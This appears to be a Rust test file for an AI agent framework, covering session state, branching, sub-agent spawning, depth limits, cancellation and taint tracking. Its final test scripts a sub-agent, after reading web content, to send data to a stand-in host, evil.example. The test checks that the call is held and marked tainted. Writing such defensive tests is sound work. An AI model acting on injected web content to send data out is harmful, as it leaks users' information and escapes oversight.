//! What agents do with sessions: values they keep, branches, other agents.

use std::sync::Arc;

use moltis_core::assistant::{Assistant, Filter, StopScope};
use moltis_core::event::{Ending, EventKind};
use moltis_core::feed::From;
use moltis_core::id::{OpId, SessionId};
use moltis_core::policy::Mode;
use moltis_core::session::{State, Summary, TurnRules};
use moltis_session::{Hands, Preset, Presets};
use moltis_testkit::provider::{Gate, Script, ScriptedModels, ScriptedProvider};
use moltis_testkit::tools::ScriptedTools;

use crate::harness::{Home, owner, rules, soon};

struct OnePreset;

impl Presets for OnePreset {
    fn preset(&self, name: &str) -> Result<Preset, String> {
        match name {
            "reviewer" => Ok(Preset {
                system: "You review.".to_owned(),
                tools: vec!["look".to_owned()],
                model: None,
            }),
            other => Err(format!("there is no preset `{other}`")),
        }
    }
}

async fn home() -> (Home, Arc<ScriptedTools>) {
    let (tools, provider) = (ScriptedTools::new(), ScriptedProvider::new("a"));
    let models = ScriptedModels::new(std::slice::from_ref(&provider));
    let presets: Option<Arc<dyn Presets>> = Some(Arc::new(OnePreset));
    let hands = Hands { toolbox: tools.clone(), presets, ..Hands::none() };
    let rules = TurnRules { approvals: Mode::Auto, ..rules() };
    (Home::with_hands(provider, models, rules, hands).await, tools)
}

async fn children(home: &Home) -> Vec<Summary> {
    let all = home.sessions.list(&Filter::default()).await.unwrap();
    all.into_iter().filter(|summary| summary.spawned.is_some()).collect()
}

#[tokio::test(start_paused = true)]
async fn an_agent_keeps_values_for_later_turns_and_after_a_restart() {
    let (mut home, _) = home().await;
    let set = r#"{"operation":"set","key":"k","value":{"n":1}}"#;
    home.provider.push(Script::calls(&[("c1", "session_state", set)]));
    home.provider.push(Script::answer("kept"));
    let turn = home.send("keep it").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    home.restart();
    let get = r#"{"operation":"get","key":"k"}"#;
    let list = r#"{"operation":"list"}"#;
    let calls = [("c2", "session_state", get), ("c3", "session_state", list)];
    home.provider.push(Script::calls(&calls));
    home.provider.push(Script::answer("there"));
    let turn = home.send("what was it?").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let story = home.story();
    assert!(story.contains(r#"session_state done: {"n":1}"#), "{story}");
    assert!(story.contains(r#"session_state done: ["k"]"#), "{story}");
}

#[tokio::test(start_paused = true)]
async fn an_agent_branches_its_session_once() {
    let (home, _) = home().await;
    home.provider.push(Script::calls(&[("c1", "branch_session", r#"{"label":"other way"}"#)]));
    home.provider.push(Script::answer("branched"));
    let turn = home.send("branch").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let all = home.sessions.list(&Filter::default()).await.unwrap();
    let titles: Vec<&str> = all.iter().map(|summary| summary.title.as_str()).collect();
    assert!(titles.contains(&"other way"), "{titles:?}");
    assert_eq!(all.len(), 2);
}

#[tokio::test(start_paused = true)]
async fn agents_work_side_by_side_in_sessions_of_their_own_and_tell_their_results() {
    let (home, _) = home().await;
    let calls = [
        ("c1", "spawn_agent", r#"{"task":"first task"}"#),
        ("c2", "spawn_agent", r#"{"task":"second task","context":"know this"}"#),
    ];
    home.provider.push(Script::calls(&calls));
    home.provider.push(Script::answer("result"));
    home.provider.push(Script::answer("result"));
    home.provider.push(Script::answer("both are done"));
    let turn = home.send("do both").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    assert_eq!(home.story().matches("spawn_agent done: result").count(), 2, "{}", home.story());
    let children = children(&home).await;
    assert_eq!(children.len(), 2);
    for child in children {
        let spawned = child.spawned.unwrap();
        assert_eq!(
            (spawned.parent, spawned.turn, spawned.depth),
            (home.session.clone(), turn.clone(), 1)
        );
    }
}

#[tokio::test(start_paused = true)]
async fn an_agent_of_a_preset_has_its_words_and_no_more_than_its_tools() {
    let (home, _) = home().await;
    let call = r#"{"task":"look at it","preset":"reviewer","tools":["look","change"]}"#;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", call)]));
    home.provider.push(Script::answer("reviewed"));
    home.provider.push(Script::answer("done"));
    let turn = home.send("review").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let asked = &home.provider.requests()[1];
    assert_eq!(asked.tools.iter().map(|tool| tool.name.as_str()).collect::<Vec<_>>(), ["look"]);
    assert!(asked.system.starts_with("You review.\n\nToday is"), "{}", asked.system);
    let unknown = r#"{"task":"x","preset":"nobody"}"#;
    home.provider.push(Script::calls(&[("c2", "spawn_agent", unknown)]));
    home.provider.push(Script::answer("no such one"));
    let turn = home.send("again").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    assert!(home.story().contains("there is no preset `nobody`"), "{}", home.story());
}

#[tokio::test(start_paused = true)]
async fn agents_do_not_begin_agents_without_end() {
    let (home, _) = home().await;
    for depth in 0..3 {
        let call = format!(r#"{{"task":"depth {depth}"}}"#);
        home.provider.push(Script::calls(&[("c", "spawn_agent", &call)]));
    }
    home.provider.otherwise(Script::answer("the end"));
    let turn = home.send("go deep").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let mut depths: Vec<u32> = children(&home)
        .await
        .iter()
        .filter_map(|child| Some(child.spawned.as_ref()?.depth))
        .collect();
    depths.sort_unstable();
    assert_eq!(depths, [1, 2, 3]);
    let requests = home.provider.requests();
    assert!(requests[0].tools.iter().any(|tool| tool.name == "spawn_agent"));
    let last =
        requests.iter().filter(|asked| asked.tools.iter().all(|tool| tool.name != "spawn_agent"));
    assert_eq!(last.count(), 1);
}

#[tokio::test(start_paused = true)]
async fn an_agent_ends_when_the_one_that_began_it_is_stopped() {
    let (home, _) = home().await;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", r#"{"task":"for ever"}"#)]));
    home.provider.push(Script::new().text("I be").hang());
    home.send("begin it").await;
    let child = running_child(&home).await;
    let (caller, op) = (owner(), OpId::from("stop"));
    let stopped = home.sessions.stop(&caller, op, &home.session, StopScope::All);
    assert_eq!(soon(stopped).await.unwrap().len(), 1);
    let selector = moltis_core::assistant::Selector::Id(child);
    let summary = soon(home.sessions.find(&caller, &selector));
    assert_eq!(summary.await.unwrap().last_ending, Some(Ending::Cancelled));
}

/// The session of the one agent that is at work.
async fn running_child(home: &Home) -> SessionId {
    let mut view = home.attach(From::Seq(0)).await;
    view.until(|view| view.growing.values().any(|text| text.starts_with("session "))).await;
    let child = children(home).await.remove(0).id;
    let mut feed =
        crate::harness::View::new(home.sessions.attach(&child, From::Seq(0)).await.unwrap());
    feed.until(|view| view.text() == "I be").await;
    child
}

#[tokio::test(start_paused = true)]
async fn an_agent_in_the_background_tells_its_result_as_a_message() {
    let (home, _) = home().await;
    let gate = Gate::closed();
    let call = r#"{"task":"slowly","background":true}"#;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", call)]));
    home.provider.otherwise(Script::answer("going on").after(&gate));
    let turn = home.send("begin it").await.turn;
    // The agent and its parent ask at the same time: both are let through, then the report's turn.
    (0..3).for_each(|_| gate.open());
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let mut view = home.attach(From::Seq(0)).await;
    let reported = |view: &crate::harness::View| {
        view.events.iter().any(|event| match &event.kind {
            EventKind::UserMessage { parts, .. } => {
                moltis_core::message::text_of(parts).contains("the result of agent")
            }
            _ => false,
        })
    };
    view.until(|view| reported(view) && view.summary().state() == State::Idle).await;
}

#[tokio::test(start_paused = true)]
async fn an_agent_knows_no_more_than_its_parent_may_tell() {
    let (home, tools) = home().await;
    let page = moltis_core::tool::Outcome::said("a page").from(moltis_core::event::Origin::Web);
    tools.give(page);
    home.provider.push(Script::calls(&[("c1", "look", r#"{"at":"a"}"#)]));
    home.provider.push(Script::calls(&[("c2", "spawn_agent", r#"{"task":"send it away"}"#)]));
    let evil = [("c3", "send", r#"{"at":"https://evil.example/"}"#)];
    home.provider.push(Script::calls(&evil));
    home.send("begin").await;
    let mut view = home.attach(From::Seq(0)).await;
    view.until(|view| view.growing.values().any(|text| text.starts_with("session "))).await;
    let child = children(&home).await.remove(0).id;
    let mut view =
        crate::harness::View::new(home.sessions.attach(&child, From::Seq(0)).await.unwrap());
    view.until(|view| view.caught_up && view.summary().state() == State::Waiting).await;
    assert!(view.summary().pending[0].tainted);
    assert_eq!(tools.done(), ["look a"]);
}
